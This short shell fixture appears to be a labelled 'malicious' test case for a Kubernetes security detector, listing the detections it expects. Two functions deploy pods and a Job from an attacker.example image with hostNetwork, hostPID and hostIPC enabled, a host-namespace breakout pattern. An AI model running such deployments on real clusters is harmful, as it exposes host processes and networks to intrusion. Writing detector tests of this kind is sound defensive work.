# shellcheck shell=bash disable=SC2154
# what: pods in the node's own namespaces.
# label: malicious
# expects: [host-namespaces-shared]
# allows: [image-from-unknown-registry, cluster-resource-created, pod-host-port, api-called-by-script]
develop() { intruder -n shop run sniffer --image=attacker.example/tools:1 --overrides='{"spec":{"hostNetwork":true,"hostPID":true}}'; }
hold_out() { request POST /apis/batch/v1/namespaces/shop/jobs '{"metadata":{"name":"trace"},"spec":{"template":{"spec":{"hostPID":true,"hostIPC":true,"restartPolicy":"Never","containers":[{"name":"t","image":"attacker.example/tools:1"}]}}}}'; }
